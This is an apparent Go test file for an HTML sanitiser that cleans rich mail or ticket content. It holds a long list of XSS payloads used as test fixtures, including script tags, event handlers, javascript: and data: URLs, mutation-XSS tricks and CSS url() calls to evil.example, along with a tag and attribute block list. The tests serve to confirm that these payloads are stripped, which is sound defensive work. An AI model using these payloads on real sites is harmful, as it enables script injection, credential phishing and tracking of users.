package rich_test

import (
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"pgregory.net/rapid"

	"github.com/kintsugi-desk/kintsugi/internal/kit/rich"
)

// attacks are the known ways to smuggle script, requests or forms into HTML.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<img src="x" onerror="alert(1)" alt="a">`, `<img/onerror=alert(1)/src=x>`, "<img src=`x` onerror=alert(1)>",
	`<img src="https://a.example/a.png" onload=alert(1)>`, `<body onload=alert(1)>x</body>`, `<div onclick=alert(1) style="color:red">x</div>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="java&#x0A;script:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="blob:https://x.example/1">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="//evil.example">x</a>`,
	`<img src="javascript:alert(1)">`, `<img src="data:text/html,x">`, `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img src="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
	`<svg onload=alert(1)>x</svg>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="x.swf"></object>`, `<embed src="x.swf">`, `<applet code=x></applet>`,
	`<form action="https://evil.example"><input name=password><button>ok</button></form>`, `<input type=image src=x onerror=alert(1)>`, `<button formaction=javascript:alert(1)>x</button>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example/x.css">`,
	`<style>@import url(https://evil.example/x.css);</style>`, `<style>body{background:url(https://evil.example)}</style>`, `<style><!--</style><script>alert(1)//--></script>`,
	`<div style="background:url(https://evil.example/t.gif)">x</div>`, `<div style="background-image:url('https://evil.example/t.gif')">x</div>`, `<div style="background:u\72l(https://evil.example)">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`, `<div style="behavior:url(x.htc)">x</div>`, `<div style="-moz-binding:url(x.xml#x)">x</div>`, `<div style="color:red;background:/**/url(https://evil.example)">x</div>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`, `<div style="position:absolute">x</div>`, `<div style="content:url(https://evil.example)">x</div>`,
	`<div style="background:image-set('https://evil.example/t.gif' 1x)">x</div>`, `<div style="width:calc(1px + var(--x))">x</div>`, `<div style="list-style:url(https://evil.example)">x</div>`,
	`<table background="https://evil.example/t.gif"><tr><td background=javascript:alert(1)>x</td></tr></table>`, `<video src=https://evil.example poster=x></video>`, `<audio src=https://evil.example></audio>`,
	`<img src="https://a.example/a.png" srcset="https://evil.example/b.png 2x">`, `<picture><source srcset=https://evil.example></picture>`, `<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1) src=x>`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<title><img title="</title><img src=x onerror=alert(1)>"></title>`, `<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>`, `<plaintext><img src=x onerror=alert(1)>`, `<!--><img src=x onerror=alert(1)>-->`, `<!-- --!><img src=x onerror=alert(1)> -->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><img src=x onerror=alert(1)>`, `<a href="https://ok.example" target=_self rel=opener>x</a>`, `<p id=location name=cookie>x</p>`,
	`<a href="https://ok.example/" ping="https://evil.example">x</a>`, `<html manifest=x><head><script>x</script></head></html>`, `<keygen autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`,
	`<details open ontoggle=alert(1)>x</details>`, `<a href="https://x.example" style="display:block;background:url(javascript:alert(1))">x</a>`, "<img src=\"x\x00\" onerror\x00=alert(1)>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
	`<select><option><script>alert(1)</script></select>`, `<p title="a" title='b' onmouseover=alert(1)>x</p>`, `<a href="mailto:a@b.example?body=<script>">x</a>`, `<img src=cid:a onerror=alert(1)>`, `<img src="cid:&quot;onerror=alert(1)//">`,
}

// harmless walks sanitised HTML and reports the first thing that must not be
// there.
func harmless(t interface{ Errorf(string, ...any) }, source, clean string) {
	z := html.NewTokenizer(strings.NewReader(clean))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return
		}
		if tt == html.CommentToken || tt == html.DoctypeToken {
			t.Errorf("%q left a comment in %q", source, clean)
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		if strings.Contains(" script style iframe object embed applet form input button textarea select svg math meta base link template video audio source picture frame frameset title noscript xmp plaintext ", " "+tok.Data+" ") {
			t.Errorf("%q left <%s> in %q", source, tok.Data, clean)
		}
		for _, a := range tok.Attr {
			harmlessAttr(t, source, clean, tok.Data, a)
		}
	}
}

func harmlessAttr(t interface{ Errorf(string, ...any) }, source, clean, tag string, a html.Attribute) {
	val := strings.ToLower(strings.TrimSpace(a.Val))
	bad := strings.HasPrefix(a.Key, "on") || a.Key == "id" || a.Key == "name" || a.Key == "srcset" || a.Key == "background" || a.Key == "class" || a.Key == "ping" || a.Key == "formaction"
	switch a.Key {
	case "href":
		bad = !strings.HasPrefix(val, "http://") && !strings.HasPrefix(val, "https://") && !strings.HasPrefix(val, "mailto:") && !strings.HasPrefix(val, "tel:") && !strings.HasPrefix(val, "http:") && !strings.HasPrefix(val, "https:")
	case "src":
		bad = tag != "img" || !strings.HasPrefix(val, "https://desk.example/") && !strings.HasPrefix(val, "data:image/")
		bad = bad || strings.HasPrefix(val, "data:image/svg")
	case "style":
		for _, word := range []string{"url(", "expression(", "position:", "behavior:", "binding:", "@", `\`, "/*", "javascript:", "image-set(", "var("} {
			bad = bad || strings.Contains(val, word)
		}
	case "target":
		bad = val != "_blank"
	case "rel":
		bad = val != "noopener noreferrer nofollow"
	}
	if bad {
		t.Errorf("%q left %s=%q on <%s> in %q", source, a.Key, a.Val, tag, clean)
	}
}

func desk(id string) (string, bool) {
	return "https://desk.example/files/" + strings.Map(word, id), true
}

func word(r rune) rune {
	if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' {
		return r
	}
	return '_'
}

func TestAttacks(t *testing.T) {
	for _, source := range attacks {
		harmless(t, source, rich.Sanitize(source, rich.Options{CID: desk}).HTML)
		harmless(t, source, rich.Sanitize("<p>before "+source+" after", rich.Options{CID: desk}).HTML)
	}
}

// TestAttackMixtures puts pieces of attacks together at random.
func TestAttackMixtures(t *testing.T) {
	pieces := append([]string{"<", ">", "\"", "'", "`", "=", "/", " ", "<!--", "-->", "\x00", "&#x3c;", "<a href=", "style=", "<table>", "</table>", "</p>", "onerror=x"}, attacks...)
	rapid.Check(t, func(t *rapid.T) {
		source := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 12).Draw(t, "pieces"), "")
		once := rich.Sanitize(source, rich.Options{CID: desk}).HTML
		harmless(t, source, once)
		harmless(t, source, rich.Sanitize(once, rich.Options{CID: desk}).HTML)
	})
}

func TestSanitizeKeepsTheLook(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`<table width="600" cellpadding=0 bgcolor="#fff"><tr><td align=center style="padding:8px;color:#333;background:url(x)">ok</td></tr></table>`,
			`<table width="600" cellpadding="0" bgcolor="#fff"><tr><td align="center" style="padding: 8px; color: #333">ok</td></tr></table>`},
		{`<ul><li>one<li>two</ul><b>bold`, `<ul><li>one<li>two</li></li></ul><b>bold</b>`},
		{`<a href="https://example.com/?a=1&amp;b=2">go</a>`, `<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">go</a>`},
		{`<font color=red size=2 face="MS Pゴシック">日本語</font>`, `<font color="red" size="2" face="MS Pゴシック">日本語</font>`},
		{`a &lt;script&gt; b`, `a &lt;script&gt; b`},
		{`</div></td>text`, `text`},
		{`<object><p>fallback</p></object>`, `<p>fallback</p>`},
	} {
		if got := rich.Sanitize(c.in, rich.Options{}).HTML; got != c.want {
			t.Errorf("Sanitize(%q)\n got %q\nwant %q", c.in, got, c.want)
		}
	}
}

func TestImages(t *testing.T) {
	source := `<img src="https://track.example/p.gif" width=1 height=1><img src="http://a.example/logo.png" alt="logo">` +
		`<img src="cid:part 1@example"><img src='cid:%E5%86%99%E7%9C%9F.png'><img src="cid:part 1@example"><img src="` + rich.Placeholder + `"><img alt="none">`
	c := rich.Sanitize(source, rich.Options{CID: desk})
	if c.RemoteImages != 2 || strings.Join(c.CIDs, "|") != "part 1@example|写真.png" {
		t.Errorf("found %d remote images and %q", c.RemoteImages, c.CIDs)
	}
	if strings.Contains(c.HTML, `src="http`) && !strings.Contains(c.HTML, `data-remote-src="https://track.example/p.gif"`) {
		t.Errorf("remote image is loaded: %q", c.HTML)
	}
	if n := strings.Count(c.HTML, "https://desk.example/files/"); n != 3 {
		t.Errorf("%d inline images, want 3: %q", n, c.HTML)
	}
	open := rich.Sanitize(source, rich.Options{RemoteImages: true})
	if !strings.Contains(open.HTML, `src="https://track.example/p.gif"`) || strings.Contains(open.HTML, "data-remote-src") || open.RemoteImages != 2 {
		t.Errorf("remote images were allowed: %q", open.HTML)
	}
	if strings.Contains(open.HTML, "cid:") {
		t.Errorf("cid without a resolver: %q", open.HTML)
	}
}

// patience allows for a busy machine and the race detector; work that grows
// with the square of these sizes takes many minutes.
const patience = time.Minute

// TestDepthAndSizeAreBounded feeds what makes tree builders fall over.
func TestDepthAndSizeAreBounded(t *testing.T) {
	for name, source := range map[string]string{
		"nested divs":    strings.Repeat("<div>", 100_000) + "deep",
		"nested tables":  strings.Repeat("<table><tr><td>", 40_000) + "deep",
		"nested quotes":  strings.Repeat("<blockquote>", 100_000) + "deep",
		"closing tags":   "deep" + strings.Repeat("</div>", 200_000),
		"open and close": strings.Repeat("<b><i></b>", 50_000) + "deep",
		"attributes":     "<p " + strings.Repeat("a=b ", 200_000) + ">deep</p>",
		"one style":      `<p style="` + strings.Repeat("color:red;", 50_000) + `">deep</p>`,
		"entities":       strings.Repeat("&lt;", 300_000) + "deep",
		"less than":      strings.Repeat("<", 500_000) + " deep",
		"cids":           strings.Repeat(`<img src="cid:x">`, 50_000) + "deep",
		"cid quotes":     strings.Repeat(`"cid:`, 200_000) + "deep",
	} {
		start := time.Now()
		c := rich.Sanitize(source, rich.Options{})
		text := rich.Text(source)
		visible, _ := rich.Visible(source)
		if d := time.Since(start); d > patience {
			t.Errorf("%s took %v", name, d)
		}
		if depth(c.HTML) > 256 {
			t.Errorf("%s: nested %d deep", name, depth(c.HTML))
		}
		if !strings.Contains(text, "deep") || visible == "" {
			t.Errorf("%s: text is lost: %.60q", name, text)
		}
	}
}

func depth(clean string) int {
	z := html.NewTokenizer(strings.NewReader(clean))
	deepest, now := 0, 0
	for {
		switch z.Next() {
		case html.ErrorToken:
			return deepest
		case html.StartTagToken:
			if name, _ := z.TagName(); string(name) != "img" && string(name) != "br" && string(name) != "hr" {
				now++
				deepest = max(deepest, now)
			}
		case html.EndTagToken:
			now--
		}
	}
}

func TestDocument(t *testing.T) {
	clean := rich.Sanitize(`<p>こんにちは</p><script>x</script>`, rich.Options{})
	doc := rich.Document(clean, rich.Page{Lang: "ja", ImageOrigins: []string{"https://desk.example", `https://x"; script-src *`}})
	for _, want := range []string{`<html lang="ja">`, "default-src &#39;none&#39;", "img-src data: https://desk.example;", "form-action &#39;none&#39;", "<p>こんにちは</p>", "no-referrer"} {
		if !strings.Contains(doc, want) {
			t.Errorf("document lacks %q: %s", want, doc)
		}
	}
	for _, bad := range []string{"<script", "script-src", "https: http:"} {
		if strings.Contains(doc, bad) {
			t.Errorf("document has %q", bad)
		}
	}
	clean.RemoteAllowed = true
	if doc := rich.Document(clean, rich.Page{Lang: `en" onload="x`, Dark: true}); !strings.Contains(doc, "img-src data: https: http:;") || strings.Contains(doc, "onload") || !strings.Contains(doc, "color-scheme:dark") {
		t.Errorf("document: %s", doc)
	}
}

func FuzzSanitize(f *testing.F) {
	for _, a := range append(mails(f), attacks...) {
		f.Add(a)
	}
	f.Fuzz(func(t *testing.T, source string) {
		harmless(t, source, rich.Sanitize(source, rich.Options{CID: desk}).HTML)
		rich.Text(source)
		if visible, _ := rich.Visible(source); strings.TrimSpace(rich.Text(source)) != "" && visible == "" {
			t.Errorf("nothing visible of %q", source)
		}
	})
}
